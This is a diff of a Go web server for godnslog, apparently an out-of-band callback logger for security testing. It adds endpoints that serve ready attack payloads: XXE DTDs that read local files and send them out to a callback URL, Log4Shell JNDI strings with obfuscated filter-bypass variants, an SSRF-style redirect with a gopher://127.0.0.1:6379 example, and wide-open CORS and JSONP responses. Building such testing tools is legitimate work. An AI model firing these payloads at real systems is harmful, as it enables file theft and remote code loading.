@@ -1,7 +1,16 @@
 package server
 
 import (
+	"fmt"
+	"mime"
+	"regexp"
+	"strconv"
+	"strings"
+	"text/template"
+
+	"github.com/chennqqi/godnslog/models"
 	"github.com/gin-gonic/gin"
+	"github.com/sirupsen/logrus"
 )
 
 /*
@@ -25,3 +34,229 @@ func (h *WebServer) xss(c *gin.Context) {
 	body := `<script>prompt(98589956)</script>`
 	c.Data(200, "text/html; charset=utf-8", []byte(body))
 }
+
+// payloadLog log every payload hit as http record of host user
+func (h *WebServer) payloadLog(c *gin.Context) {
+	variable := strings.TrimPrefix(c.Request.URL.Path, "/payload")
+	user := h.hostUser(c)
+	if shortId := c.Param("shortId"); shortId != "" {
+		if v, exist := h.store.Get(shortId + ".suser"); exist {
+			user = v.(*models.TblUser)
+		}
+	}
+	_, err := h.logHttp(c, user, variable)
+	if err != nil && err != ErrRecordQuota {
+		logrus.Errorf("[payload.go::payloadLog] logHttp: %v", err)
+	}
+}
+
+// /payload/redirect?to=gopher://127.0.0.1:6379/_INFO&code=302, on log hosts of users only, not an open redirect of console
+func (h *WebServer) redirect(c *gin.Context) {
+	if h.hostUser(c) == nil {
+		c.Data(404, "text/plain; charset=utf-8", []byte("404 page not found"))
+		return
+	}
+	to, exist := c.GetQuery("to")
+	if !exist {
+		c.Data(400, "text/html; charset=utf-8", []byte("to required"))
+		return
+	}
+	code := 302
+	if v, exist := c.GetQuery("code"); exist {
+		code, _ = strconv.Atoi(v)
+	}
+	switch code {
+	case 301, 302, 303, 307, 308:
+	default:
+		c.Data(400, "text/html; charset=utf-8", []byte("bad code"))
+		return
+	}
+
+	// write Location directly, http.Redirect would rewrite url without scheme
+	c.Header("Location", to)
+	c.Status(code)
+}
+
+var (
+	// OOB file read by parameter entity, file content is sent to callback url
+	xxeOobDtd = template.Must(template.New("oob").Parse(`<!ENTITY % file SYSTEM "{{.File}}">
+<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '{{.Callback}}?d=%file;'>">
+%eval;
+%exfil;
+`))
+
+	// error based file read, file content is shown in parser error
+	xxeErrorDtd = template.Must(template.New("error").Parse(`<!ENTITY % file SYSTEM "{{.File}}">
+<!ENTITY % eval "<!ENTITY &#x25; error SYSTEM 'file:///godnslog/%file;'>">
+%eval;
+%error;
+`))
+
+	xxeXml = template.Must(template.New("xml").Parse(`<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE root [
+<!ENTITY % dtd SYSTEM "{{.Dtd}}">
+%dtd;
+]>
+<root>godnslog</root>
+`))
+)
+
+type xxeParam struct {
+	File     string
+	Callback string
+	Dtd      string
+}
+
+// xxeParams build template params from query, file=/etc/passwd&t=tag
+func (h *WebServer) xxeParams(c *gin.Context) (*xxeParam, bool) {
+	user := h.hostUser(c)
+	if user == nil {
+		c.Data(400, "text/plain; charset=utf-8", []byte("use your domain as host"))
+		return nil, false
+	}
+	file := c.DefaultQuery("file", "/etc/hostname")
+	tag := c.DefaultQuery("t", "xxe")
+	if strings.ContainsAny(file+tag, `"'%&<>`) {
+		c.Data(400, "text/plain; charset=utf-8", []byte("bad param"))
+		return nil, false
+	}
+	if !strings.Contains(file, "://") {
+		file = "file://" + file
+	}
+
+	scheme := "http"
+	if c.Request.TLS != nil {
+		scheme = "https"
+	}
+	host := fmt.Sprintf("%v://%v.%v", scheme, user.ShortId, strings.TrimSuffix(h.Domain, "."))
+	return &xxeParam{
+		File:     file,
+		Callback: fmt.Sprintf("%v/log/%v/%v", host, user.ShortId, tag),
+		Dtd:      fmt.Sprintf("%v/payload/xxe/oob.dtd?%v", host, c.Request.URL.RawQuery),
+	}, true
+}
+
+func (h *WebServer) xxe(c *gin.Context, t *template.Template) {
+	param, ok := h.xxeParams(c)
+	if !ok {
+		return
+	}
+	var b strings.Builder
+	t.Execute(&b, param)
+	ctype := "application/xml-dtd"
+	if t == xxeXml {
+		ctype = "application/xml"
+	}
+	c.Data(200, ctype, []byte(b.String()))
+}
+
+func (h *WebServer) xxeOob(c *gin.Context) {
+	h.xxe(c, xxeOobDtd)
+}
+
+func (h *WebServer) xxeError(c *gin.Context) {
+	h.xxe(c, xxeErrorDtd)
+}
+
+func (h *WebServer) xxeDocument(c *gin.Context) {
+	h.xxe(c, xxeXml)
+}
+
+var jndiTokenRegexp = regexp.MustCompile(`^[a-z0-9-]{1,32}$`)
+
+// /payload/jndi?t=token, lookup of these payloads are logged with variable token
+func (h *WebServer) jndi(c *gin.Context) {
+	user := h.hostUser(c)
+	if user == nil {
+		c.Data(400, "text/plain; charset=utf-8", []byte("use your domain as host"))
+		return
+	}
+	token := strings.ToLower(c.DefaultQuery("t", genRandomString(8)))
+	if !jndiTokenRegexp.MatchString(token) {
+		c.Data(400, "text/plain; charset=utf-8", []byte("bad token"))
+		return
+	}
+
+	host := fmt.Sprintf("%v.%v.%v", token, user.ShortId, strings.TrimSuffix(h.Domain, "."))
+	//ldap and rmi request has no host, so shortId is also in path
+	name := fmt.Sprintf("%v.%v", token, user.ShortId)
+	lines := []string{
+		fmt.Sprintf("${jndi:ldap://%v/%v}", host, name),
+		fmt.Sprintf("${jndi:ldaps://%v/%v}", host, name),
+		fmt.Sprintf("${jndi:rmi://%v/%v}", host, name),
+		fmt.Sprintf("${jndi:dns://%v/%v}", host, name),
+		fmt.Sprintf("${${lower:j}ndi:${lower:l}dap://%v/%v}", host, name),
+		fmt.Sprintf("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://%v/%v}", host, name),
+		fmt.Sprintf("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%v/%v}", host, name),
+	}
+	c.Data(200, "text/plain; charset=utf-8", []byte(strings.Join(lines, "\n")+"\n"))
+}
+
+// passive content types of user controlled bodies, active ones, eg. html, svg and xml, run scripts
+var passiveContentTypes = map[string]bool{
+	"application/json":         true,
+	"application/octet-stream": true,
+	"text/plain":               true,
+	"text/csv":                 true,
+}
+
+// sandboxContent deny scripts and content sniffing of user controlled bodies
+func sandboxContent(c *gin.Context) {
+	c.Header("Content-Security-Policy", "sandbox")
+	c.Header("X-Content-Type-Options", "nosniff")
+}
+
+// /payload/cors?body=xxx&ctype=application/json, allow any origin with credentials, on log hosts of users only
+func (h *WebServer) cors(c *gin.Context) {
+	if h.hostUser(c) == nil {
+		c.Data(404, "text/plain; charset=utf-8", []byte("404 page not found"))
+		return
+	}
+	origin := c.GetHeader("Origin")
+	if origin == "" {
+		origin = "*"
+	}
+	c.Header("Access-Control-Allow-Origin", origin)
+	c.Header("Access-Control-Allow-Credentials", "true")
+	c.Header("Access-Control-Expose-Headers", "*")
+	c.Header("Vary", "Origin")
+	if c.Request.Method == "OPTIONS" {
+		methods := c.GetHeader("Access-Control-Request-Method")
+		if methods == "" {
+			methods = "GET, POST, PUT, DELETE, OPTIONS"
+		}
+		c.Header("Access-Control-Allow-Methods", methods)
+		if headers := c.GetHeader("Access-Control-Request-Headers"); headers != "" {
+			c.Header("Access-Control-Allow-Headers", headers)
+		}
+		c.Header("Access-Control-Max-Age", "86400")
+		c.Status(204)
+		return
+	}
+	body := c.DefaultQuery("body", `{"message":"OK"}`)
+	ctype := c.DefaultQuery("ctype", "application/json")
+	if mediaType, _, err := mime.ParseMediaType(ctype); err != nil || !passiveContentTypes[mediaType] {
+		c.Data(400, "text/plain; charset=utf-8", []byte("bad ctype"))
+		return
+	}
+	sandboxContent(c)
+	c.Data(200, ctype, []byte(body))
+}
+
+var jsonpCallbackRegexp = regexp.MustCompile(`^[a-zA-Z_$][a-zA-Z0-9_$.]{0,127}$`)
+
+// /payload/jsonp?callback=fn&body={"a":1}, on log hosts of users only as the body is script of the origin
+func (h *WebServer) jsonp(c *gin.Context) {
+	if h.hostUser(c) == nil {
+		c.Data(404, "text/plain; charset=utf-8", []byte("404 page not found"))
+		return
+	}
+	callback := c.DefaultQuery("callback", "callback")
+	if !jsonpCallbackRegexp.MatchString(callback) {
+		c.Data(400, "text/plain; charset=utf-8", []byte("bad callback"))
+		return
+	}
+	body := c.DefaultQuery("body", "{}")
+	c.Header("X-Content-Type-Options", "nosniff")
+	c.Data(200, "application/javascript; charset=utf-8", []byte(callback+"("+body+");"))
+}